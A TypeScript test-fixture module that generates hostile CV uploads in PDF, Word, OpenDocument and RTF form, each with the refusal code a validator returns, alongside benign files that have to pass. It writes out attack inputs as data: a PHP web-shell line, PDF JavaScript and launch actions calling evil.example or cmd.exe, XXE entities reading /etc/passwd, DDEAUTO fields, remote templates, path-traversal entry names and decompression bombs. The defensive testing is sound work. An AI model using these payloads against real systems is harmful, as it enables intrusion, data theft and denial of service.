import { deflateSync } from 'node:zlib'
import { PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib'
import { docxCv, docxTypes, odtBody, odtCv, odtManifest, pdfCv, relationship, rels, rtfCv, wordBody, wordText, zipOf, type ZipPart } from './cv-files.ts'

/** A file that nobody should have to open: what it is, its name, the code it is refused with. */
export type HostileFile = readonly [what: string, name: string, code: string, make: () => Buffer | Promise<Buffer>]

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const join = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)))

/** A PDF written by hand: objects from 1 on, the first is the catalogue. */
function rawPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n')]
  const places: number[] = []
  let at = 9
  for (const [index, object] of objects.entries()) {
    const part = join(`${index + 1} 0 obj\n`, object, '\nendobj\n')
    places.push(at)
    parts.push(part)
    at += part.length
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  return join(...parts, `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`)
}

const page = (more = ''): string => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${more}>>`
const onePage = (catalogue = '', inPage = '', more: readonly (string | Buffer)[] = [], trailer = ''): Buffer =>
  rawPdf([`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', page(inPage), ...more], trailer)
const stream = (dict: string, content: Buffer): Buffer => join(`<<${dict}/Length ${content.length}>>stream\n`, content, '\nendstream')
const note = (inside: string): string => `/Annots[<</Type/Annot/Rect[0 0 50 50]${inside}>>]`
const action = (inside: string): string => note(`/Subtype/Link/A<<${inside}>>`)

const pdfs: readonly HostileFile[] = [
  ['a PDF cut short', 'cv.pdf', 'cv-broken', async () => (await pdfCv('x'.repeat(90), 5)).subarray(0, 900)],
  ['a PDF that is nothing but its first line', 'cv.pdf', 'cv-broken', () => latin('%PDF-1.7\n%%EOF\n')],
  ['a PDF behind something else', 'cv.pdf', 'cv-polyglot', async () => join('GIF89a', await pdfCv())],
  ['a PDF with a page of a site in its first line', 'cv.pdf', 'cv-polyglot', async () => join('%PDF-1.7\n<script>alert(1)</script>\n', (await pdfCv()).subarray(9))],
  ['a script after the end of a PDF', 'cv.pdf', 'cv-polyglot', async () => join(await pdfCv(), '<?php system($_GET[0]) ?>')],
  ['an archive after the end of a PDF', 'cv.pdf', 'cv-polyglot', async () => join(await pdfCv(), zipOf([{ name: 'run.exe', content: 'MZ' }]))],
  ['a PDF whose end is the comment of an archive', 'cv.pdf', 'cv-polyglot', async () => {
    const [pdf, tail] = [await pdfCv(), '\n%%EOF\n']
    const archive = zipOf([{ name: 'run.exe', content: 'MZ' }])
    archive.writeUInt16LE(tail.length, archive.length - 2)
    return join(pdf, archive, tail)
  }],
  ['a PDF behind a password', 'cv.pdf', 'cv-encrypted', () => pdfCv('secret', 1, (pdf) => pdf.encrypt({ userPassword: '1234', ownerPassword: '4321' }))],
  ['a PDF that allows its reader nothing', 'cv.pdf', 'cv-encrypted', () => pdfCv('secret', 1, (pdf) => pdf.encrypt({ ownerPassword: '4321', permissions: { printing: false } }))],
  ['a script that runs when a PDF is opened', 'cv.pdf', 'cv-active', () => onePage('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a script among the names of a PDF', 'cv.pdf', 'cv-active', () => pdfCv('x', 1, (pdf) => pdf.addJavaScript('main', 'app.launchURL("http://evil.example")'))],
  ['a script whose name is written in numbers', 'cv.pdf', 'cv-active', () => onePage('/OpenAction<</S/#4a#61vaScript/#4a#53(app.alert(1))>>')],
  ['a script in an object stream', 'cv.pdf', 'cv-active', () => pdfCv('x', 1, (pdf) => pdf.context.register(pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('1') })))],
  ['a script in an object that a later one replaces', 'cv.pdf', 'cv-active', () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', page(), '<</S/JavaScript/JS(1)>>\nendobj\n4 0 obj\n<</A 1>>'])],
  ['a script when a page is turned', 'cv.pdf', 'cv-active', () => onePage('', '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>')],
  ['a program that a click starts', 'cv.pdf', 'cv-active', () => onePage('', action('/S/Launch/F(cmd.exe)'))],
  ['a site that opens with a PDF', 'cv.pdf', 'cv-active', () => onePage('/OpenAction<</S/URI/URI(http://evil.example)>>')],
  ['a file within a PDF', 'cv.pdf', 'cv-active', () => pdfCv('x', 1, (pdf) => pdf.attach(Buffer.from('MZ'), 'run.exe'))],
  ['a film within a PDF', 'cv.pdf', 'cv-active', () => onePage('', note('/Subtype/RichMedia/RichMediaContent<<>>'))],
  ['a form that sends itself', 'cv.pdf', 'cv-active', () => onePage('', action('/S/SubmitForm/F(http://evil.example)'))],
  ['a form in XML', 'cv.pdf', 'cv-active', () => onePage('/AcroForm<</Fields[]/XFA(x)>>')],
  ['a folder of files as a PDF', 'cv.pdf', 'cv-active', () => onePage('/Collection<</View/T>>')],
  ['a PDF whose page is in another file', 'cv.pdf', 'cv-remote', () => onePage('', '/Contents 4 0 R', [stream('/F<</FS/URL/F(http://evil.example/p)>>', latin(''))])],
  ['a link into another file', 'cv.pdf', 'cv-remote', () => onePage('', action('/S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]'))],
  ['fifty-one pages', 'cv.pdf', 'cv-too-many-pages', () => pdfCv('x', 51)],
  ['a page as large as a field', 'cv.pdf', 'cv-huge-page', () => pdfCv('x', 1, (pdf) => pdf.addPage([14_400, 14_400]))],
  ['a page that is made as large by its unit', 'cv.pdf', 'cv-huge-page', () => onePage('', '/UserUnit 75')],
  ['a page that unpacks to two hundred megabytes', 'cv.pdf', 'cv-bomb', () => onePage('', '/Contents 4 0 R', [stream('/Filter/FlateDecode', deflateSync(Buffer.alloc(200_000_000, 0x20), { level: 1 }))])],
  ['objects that unpack to two hundred megabytes', 'cv.pdf', 'cv-bomb', () => onePage('', '', [stream('/Type/ObjStm/N 1/First 5/Filter/FlateDecode', deflateSync(Buffer.alloc(200_000_000, 0x20), { level: 1 }))])],
  ['what is packed twice', 'cv.pdf', 'cv-bomb', () => onePage('', '/Contents 4 0 R', [stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(Buffer.alloc(50_000_000, 0x20))))])],
  ['a picture of a billion points', 'cv.pdf', 'cv-bomb', () => onePage('', '', [stream('/Subtype/Image/Width 40000/Height 40000/Filter/FlateDecode', deflateSync(Buffer.alloc(10)))])],
  ['pages that are their own children', 'cv.pdf', 'cv-broken', () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>'])],
  ['brackets without end', 'cv.pdf', 'cv-broken', () => onePage('', '', ['['.repeat(200_000)])],
  ['pages that two readers count differently', 'cv.pdf', 'cv-broken', () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', page(), '<</Type/Catalog/Pages 5 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'], '/Root 4 0 R')],
]

const evil = 'http://evil.example/x'
const documentRels = (inside: string): ZipPart => rels('word/_rels/document.xml.rels', inside)
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const laughs = `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>`
const field = (...runs: string[]): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const word = (...parts: ZipPart[]) => () => docxCv('Резюме', parts)

const docxs: readonly HostileFile[] = [
  ['macros in a Word document', 'cv.docx', 'cv-macros', word({ name: 'word/vbaProject.bin', content: 'x' })],
  ['a document with macros under the name of one without', 'cv.docx', 'cv-macros', word(docxTypes(macroType))],
  ['a document with macros', 'cv.docm', 'cv-macros', word(docxTypes(macroType))],
  ['an entity from this machine (XXE)', 'cv.docx', 'cv-remote', word(wordBody(wordText('&x;'), '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))],
  ['a parameter entity from elsewhere', 'cv.docx', 'cv-remote', word(wordBody(wordText('x'), `<!DOCTYPE r [<!ENTITY % x SYSTEM "${evil}"> %x;]>`))],
  ['a billion laughs', 'cv.docx', 'cv-bomb', word(wordBody(wordText('&c;'), laughs))],
  ['a template from elsewhere', 'cv.docx', 'cv-remote', word(rels('word/_rels/settings.xml.rels', relationship('attachedTemplate', `${evil}.dotm`)))],
  ['a template from a folder of another machine', 'cv.docx', 'cv-remote', word(rels('word/_rels/settings.xml.rels', relationship('attachedTemplate', '\\\\evil\\share\\t.dotm')))],
  ['a picture from elsewhere', 'cv.docx', 'cv-remote', word(documentRels(relationship('image', `${evil}.png`)))],
  ['an object from elsewhere', 'cv.docx', 'cv-active', word(documentRels(relationship('oleObject', evil)))],
  ['an object within', 'cv.docx', 'cv-active', word({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
  ['a program that calls itself a picture', 'cv.docx', 'cv-active', word({ name: 'word/media/image1.png', content: 'MZ\x90\x00' })],
  ['a program within', 'cv.docx', 'cv-active', word({ name: 'word/media/run.exe', content: 'x' })],
  ['a field that starts a program, in pieces', 'cv.docx', 'cv-active', word(wordBody(field('DD', 'EAU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe')))],
  ['a field that fetches a picture', 'cv.docx', 'cv-remote', word(wordBody(field(`INCLUDEPICTURE "${evil}" \\d`)))],
  ['a document within', 'cv.docx', 'cv-active', word(wordBody('<w:altChunk w:id="r1"/>'))],
  ['a link that runs a script', 'cv.docx', 'cv-active', word(documentRels(relationship('hyperlink', 'ms-msdt:/id PCWDiagnostic')))],
  ['a part whose name leads out', 'cv.docx', 'cv-polyglot', word({ name: '../../../../etc/cron.d/x', content: 'x' })],
  ['a part whose name begins at the root', 'cv.docx', 'cv-polyglot', word({ name: '/etc/passwd', content: 'x' })],
  ['the same part twice', 'cv.docx', 'cv-polyglot', () => zipOf([docxTypes(), wordBody(wordText('a')), wordBody(wordText('b'))])],
  ['something before an archive', 'cv.docx', 'cv-polyglot', () => join('PK\x03\x04', Buffer.alloc(26), '[Content_Types].xml', Buffer.alloc(40), docxCv())],
  ['something after an archive', 'cv.docx', 'cv-polyglot', () => join(docxCv(), '<?php ?>')],
  ['a PDF in the first kilobyte of an archive', 'cv.docx', 'cv-polyglot', () => zipOf([{ name: '[Content_Types].xml', content: '%PDF-1.7\n', stored: true }])],
  ['a part that unpacks a thousandfold', 'cv.docx', 'cv-bomb', word({ name: 'word/media/image1.bmp', content: Buffer.alloc(40_000_000) })],
  ['two hundred megabytes in parts', 'cv.docx', 'cv-bomb', word(...Array.from({ length: 5 }, (_, index) => ({ name: `word/media/${index}.bmp`, content: 'x', says: { size: 40_000_000 } })))],
  ['a part that is larger than it says', 'cv.docx', 'cv-bomb', word({ name: 'word/media/image1.bmp', content: Buffer.alloc(900_000), says: { size: 10 } })],
  ['five thousand parts', 'cv.docx', 'cv-bomb', word(...Array.from({ length: 5000 }, (_, index) => ({ name: `word/media/${index}.png`, content: '' })))],
  ['parts that lie in one another', 'cv.docx', 'cv-bomb', word({ name: 'word/media/a.png', content: 'x'.repeat(500) }, { name: 'word/media/b.png', content: 'x', says: { offset: 10 } })],
  ['elements within elements without end', 'cv.docx', 'cv-bomb', word(wordBody('<w:p>'.repeat(5000) + '</w:p>'.repeat(5000)))],
  ['a part behind a password', 'cv.docx', 'cv-encrypted', word({ name: 'word/media/a.png', content: 'x', says: { flags: 1 } })],
  ['a document behind a password', 'cv.docx', 'cv-encrypted', () => join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600))],
  ['a part that is not what it was', 'cv.docx', 'cv-broken', word({ name: 'word/styles.xml', content: '<a/>', says: { crc: 1 } })],
  ['XML that ends in the middle', 'cv.docx', 'cv-broken', word({ name: 'word/document.xml', content: '<w:document xmlns:w="x"><w:p>' })],
  ['a workbook under another name', 'cv.docx', 'cv-unknown-type', word(docxTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'))],
  ['sixty pages of text', 'cv.docx', 'cv-too-many-pages', () => docxCv('строка\n'.repeat(60 * 56))],
]

const odts: readonly HostileFile[] = [
  ['macros in an OpenDocument', 'cv.odt', 'cv-macros', () => odtCv('x', [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }])],
  ['a script at an event', 'cv.odt', 'cv-macros', () => odtCv('x', [odtBody('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>')])],
  ['a picture from elsewhere in an OpenDocument', 'cv.odt', 'cv-remote', () => odtCv('x', [odtBody(`<draw:frame><draw:image xlink:href="${evil}"/></draw:frame>`)])],
  ['a chapter from elsewhere', 'cv.odt', 'cv-remote', () => odtCv('x', [odtBody(`<text:section><text:section-source xlink:href="${evil}"/></text:section>`)])],
  ['an object in an OpenDocument', 'cv.odt', 'cv-active', () => odtCv('x', [odtBody('<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>')])],
  ['an OpenDocument behind a password', 'cv.odt', 'cv-encrypted', () => odtCv('x', [odtManifest('<manifest:encryption-data/>')])],
  ['an entity in an OpenDocument', 'cv.odt', 'cv-remote', () => odtCv('x', [{ name: 'content.xml', content: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }])],
  ['a table under another name', 'cv.odt', 'cv-unknown-type', () => odtCv('x', [{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet', stored: true }])],
]

const hex = (text: string): string => Array.from(latin(text), (byte) => `\\'${byte.toString(16).padStart(2, '0')}`).join('')

const rtfs: readonly HostileFile[] = [
  ['an object in an RTF', 'cv.rtf', 'cv-active', () => rtfCv(String.raw`{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}`)],
  ['an object that updates itself', 'cv.rtf', 'cv-active', () => rtfCv(String.raw`{\object\objautlink\objupdate{\*\objdata 01}}`)],
  ['a field that starts a program, in numbers', 'cv.rtf', 'cv-active', () => rtfCv(String.raw`{\field{\*\fldinst {${hex('DDEAUTO')} cmd}}{\fldrslt x}}`)],
  ['a field that fetches a picture in an RTF', 'cv.rtf', 'cv-remote', () => rtfCv(String.raw`{\field{\*\fldinst INCLUDEPICTURE "${evil}" \\d}{\fldrslt x}}`)],
  ['a template from elsewhere in an RTF', 'cv.rtf', 'cv-remote', () => rtfCv(String.raw`{\*\template ${evil}.dotm}`)],
  ['something after an RTF', 'cv.rtf', 'cv-polyglot', () => join(rtfCv(), 'MZ')],
  ['an RTF that does not end', 'cv.rtf', 'cv-broken', () => rtfCv().subarray(0, -1)],
  ['groups within groups without end', 'cv.rtf', 'cv-bomb', () => rtfCv('{'.repeat(9000) + '}'.repeat(9000))],
]

const names: readonly HostileFile[] = [
  ['nothing', 'cv.pdf', 'cv-empty', () => Buffer.alloc(0)],
  ['one byte more than ten megabytes', 'cv.pdf', 'cv-too-large', () => join('%PDF-1.7\n', Buffer.alloc(10 * 1024 * 1024 - 8))],
  ['a program', 'cv.pdf', 'cv-unknown-type', () => join('MZ\x90\x00', Buffer.alloc(2000))],
  ['a page of a site', 'cv.pdf', 'cv-unknown-type', () => latin('<!doctype html><script>alert(1)</script>')],
  ['a photo', 'cv.jpg', 'cv-unknown-type', () => join('\xff\xd8\xff\xe0', Buffer.alloc(100))],
  ['an archive', 'cv.docx', 'cv-unknown-type', () => zipOf([{ name: 'cv.txt', content: 'x' }])],
  ['a PDF that is called a program', 'cv.pdf.exe', 'cv-wrong-extension', () => pdfCv()],
  ['a PDF that is called a program before', 'cv.exe.pdf', 'cv-wrong-extension', () => pdfCv()],
  ['a PDF that is called a Word document', 'cv.docx', 'cv-wrong-extension', () => pdfCv()],
  ['a PDF that reads backwards', 'cv\u202efdp.exe', 'cv-wrong-extension', () => pdfCv()],
  ['a PDF without a name', '', 'cv-wrong-extension', () => pdfCv()],
  ['a PDF whose name leads out', '../../../etc/passwd', 'cv-wrong-extension', () => pdfCv()],
]

/** Everything that is refused. */
export const hostileFiles: readonly HostileFile[] = [...names, ...pdfs, ...docxs, ...odts, ...rtfs]

/** Files of honest people that look like it: links, local templates, a page shown at opening, fields that print numbers, dots in names. */
export const honestFiles: readonly (readonly [what: string, name: string, make: () => Buffer | Promise<Buffer>])[] = [
  ['a PDF with links, a title and a first page to be shown', 'Иванов И.И. резюме v2.1.pdf', () => onePage('/OpenAction[3 0 R/Fit]', action('/S/URI/URI(https://example.ru)'), [stream('/Filter/FlateDecode', deflateSync(latin('BT ET')))])],
  ['a PDF that was changed after it was made', 'cv.docx.pdf', async () => {
    const { PDFDocument } = await import('@cantoo/pdf-lib')
    const pdf = await PDFDocument.load(await pdfCv('first', 2))
    pdf.setTitle('Резюме')
    pdf.getPage(0).node.set(PDFName.of('Note'), PDFHexString.fromText('changed'))
    return Buffer.from(await pdf.save())
  }],
  ['a Word document of a template of one\'s own, with a link and a page number', 'cv.docx', () =>
    docxCv('x', [
      rels('word/_rels/settings.xml.rels', relationship('attachedTemplate', 'file:///C:\\Users\\anna\\Templates\\Resume.dotx')),
      documentRels(relationship('hyperlink', 'https://example.ru/portfolio') + relationship('hyperlink', 'mailto:anna@example.ru')),
      wordBody(field(' PAGE ') + field(' HYPERLINK "https://example.ru" ') + wordText('Иванова Анна')),
    ])],
  ['an OpenDocument with a link and a picture of its own', 'cv.odt', () =>
    odtCv('x', [odtBody('<text:p><text:a xlink:href="https://example.ru">я</text:a><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>'), { name: 'Pictures/1.png', content: '\x89PNG' }, { name: 'Configurations2/accelerator/current.xml', content: '' }, { name: 'Configurations2/menubar/', content: '', stored: true }])],
  ['an RTF with a link', 'cv.rtf', () => rtfCv(String.raw`{\field{\*\fldinst HYPERLINK "https://example.ru"}{\fldrslt site}}{\*\template C:\\Users\\anna\\Normal.dot}`)],
]
